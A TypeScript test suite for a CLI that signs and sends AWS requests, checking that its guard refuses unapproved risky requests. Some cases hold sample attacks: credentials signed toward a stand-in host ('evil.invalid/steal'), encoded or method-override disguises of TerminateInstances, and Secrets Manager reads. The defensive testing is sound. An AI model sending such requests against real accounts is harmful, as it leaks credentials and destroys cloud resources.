import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createMachine, credentialsFile, keys, type Machine } from "./cliProcess.ts";

/** AWS's own hosts, and nothing leaves this machine: the connection is led here, where no TLS is spoken. */
const there = "# @connect-to 127.0.0.1:1\n";
const gateway = "https://abc123.execute-api.us-east-1.amazonaws.com";
const credentials = "# @service execute-api\n# @region us-east-1\n";
const roleOfFile = "arn:aws:iam::999999999999:role/Admin";

/** What stands for a yes that nobody had to give: the request got past the guard and found no server. */
const sent = 4;
const refused = 3;

describe("what is asked before a request goes", () => {
  let machine: Machine;
  let metadata: Server;
  const asked: string[] = [];

  before(async () => {
    machine = await createMachine();
    await machine.write(".aws/credentials", credentialsFile());
    await machine.write("work/body.txt", "body");
    await machine.write("work/http-client.private.env.json", '{"dev": {"private": "PRIVATE-VALUE-1"}}');
    metadata = createServer((request, response) => {
      asked.push(`${request.method} ${request.url}`);
      const isKeys = request.url?.endsWith("/app") === true;
      const document = {
        Code: "Success",
        AccessKeyId: keys.accessKeyId,
        SecretAccessKey: keys.secretAccessKey,
        Token: "t",
        Expiration: "2099-01-01T00:00:00Z",
      };
      response.end(isKeys ? JSON.stringify(document) : "app");
    }).listen(0, "127.0.0.1");
  });
  beforeEach(() => asked.splice(0));
  after(async () => {
    metadata.close();
    await machine.remove();
  });

  const run = async (
    text: string,
    args: readonly string[] = [],
    env: Readonly<Record<string, string>> = {},
  ) => {
    await machine.write("work/a.awsreq", text);
    return machine.run(["send", "a.awsreq", ...args], env);
  };
  const codeOf = async (...given: Parameters<typeof run>) => (await run(...given)).code;
  const named = ["--profile", "canary"];
  const terminate = `${there}GET https://ec2.us-east-1.amazonaws.com/?Action=TerminateInstances&InstanceId.1=i-1&Version=2016-11-15\n`;
  const instance = () => ({
    AWS_EC2_METADATA_SERVICE_ENDPOINT: `http://127.0.0.1:${(metadata.address() as AddressInfo).port}`,
  });

  it("is each change with a protected profile, however it is dressed", async () => {
    const guarded = { AWSREQ_PROTECTED_PROFILES: "CANARY" };
    const override = `${there}GET ${gateway}/pets/1\nX-HTTP-Method-Override: DELETE\n`;
    const describe = terminate.replace("TerminateInstances", "DescribeInstances");
    assert.equal(await codeOf(describe, named, guarded), sent);
    for (const text of [terminate, terminate.replace("Action", "%41ction"), override]) {
      assert.equal(await codeOf(text, named, guarded), refused, text);
      assert.equal(await codeOf(text, named), sent, text);
    }
    const grant = ["--approve", "canary@ec2.us-east-1.amazonaws.com"];
    assert.equal(await codeOf(terminate, [...named, ...grant], guarded), sent);
  });

  it("is each change with keys of the environment, where those are protected", async () => {
    const env = {
      AWS_ACCESS_KEY_ID: keys.accessKeyId,
      AWS_SECRET_ACCESS_KEY: keys.secretAccessKey,
      AWSREQ_PROTECTED_PROFILES: "*",
    };
    assert.equal(await codeOf(terminate, [], env), refused);
    assert.equal(await codeOf(terminate, [], { ...env, AWSREQ_PROTECTED_PROFILES: "environment" }), refused);
    assert.equal(await codeOf(terminate, [], { ...env, AWSREQ_PROTECTED_PROFILES: "canary" }), sent);
  });

  it("is an answer that hands out credentials, each time, and covered by no approval", async () => {
    const host = "secretsmanager.us-east-1.amazonaws.com";
    const text = `${there}POST https://${host}/\nContent-Type: application/x-amz-json-1.1\nX-Amz-Target: secretsmanager.GetSecretValue\n\n{"SecretId": "db"}\n`;
    const { code, stderr } = await run(text, named);
    assert.equal(code, refused);
    assert.match(stderr, /whose answer hands out credentials signed as profile canary/);
    assert.equal(await codeOf(text, [...named, "--approve", `canary@${host}`]), sent);
    assert.equal(await codeOf(text, named), refused);
  });

  it("is a role that only the file names, though its profile was named", async () => {
    const text = `${there}# @role ${roleOfFile}\n${credentials}DELETE ${gateway}/\n`;
    for (const args of [[], ["--approve", "canary@abc123.execute-api.us-east-1.amazonaws.com"]]) {
      const { code, stderr } = await run(text, [...named, ...args]);
      assert.equal(code, refused);
      assert.match(stderr, /as profile canary with role arn:aws:iam::999999999999:role\/Admin/);
    }
    assert.match((await run(text, [...named, "--role", roleOfFile])).stderr, /E_STS/);
  });

  it("is what a machine has, of which no credential is taken before", async () => {
    for (const url of [`${there}DELETE ${gateway}/`, "DELETE https://evil.invalid/steal"]) {
      const { code, stderr } = await run(`${credentials}${url}\n`, [], instance());
      assert.equal(code, refused);
      assert.match(stderr, /signed as the instance's credentials .* --approve instance@/s);
      assert.deepEqual(asked.splice(0), ["PUT /latest/api/token"]);
    }
    const grant = ["--approve", "instance@evil.invalid"];
    assert.equal(await codeOf(`${credentials}DELETE https://evil.invalid/steal\n`, grant, instance()), sent);
    assert.ok(asked.some((line) => line.endsWith("/security-credentials/app")));
  });

  it("is every other host than AWS's, for a profile that was named as well", async () => {
    assert.equal(await codeOf(`${there}${credentials}GET ${gateway}/\n`, named), sent);
    const other = `${credentials}GET https://evil.invalid/\n`;
    assert.equal(await codeOf(other, named), refused);
    assert.equal(await codeOf(other, [], { AWS_PROFILE: "canary" }), refused);
    // The name is AWS's, the place is not.
    assert.equal(
      await codeOf(`# @connect-to evil.invalid:443\n${credentials}GET ${gateway}/\n`, named),
      refused,
    );
  });

  it("is each kind of value, whether or not somebody signs", async () => {
    for (const [auth, grants] of [
      [credentials, ["--approve", "canary@own.invalid"]],
      ["# @auth none\n", []],
    ] as const) {
      const include = `${auth}POST https://own.invalid/\n\n< ./body.txt\n`;
      const both = `${auth}POST https://own.invalid/{{private}}\n\n< ./body.txt\n`;
      for (const text of [include, both])
        assert.equal(await codeOf(text, [...named, ...grants]), refused, text);
    }
    const both = "# @auth none\nPOST https://own.invalid/{{private}}\n\n< ./body.txt\n";
    assert.equal(await codeOf(both, ["--approve", "@own.invalid"]), sent);
    assert.equal(await codeOf(both), sent);
    // A value that was approved for https is not for http.
    assert.equal(await codeOf(both.replace("https:", "http:")), refused);
  });

  it("is another place to connect to, though nobody signs", async () => {
    const text = "# @auth none\n# @connect-to other.invalid:443\nGET https://own.invalid/\n";
    assert.equal(await codeOf(text), refused);
    assert.equal(await codeOf(text, ["--approve", "@other.invalid:443"]), sent);
  });
});
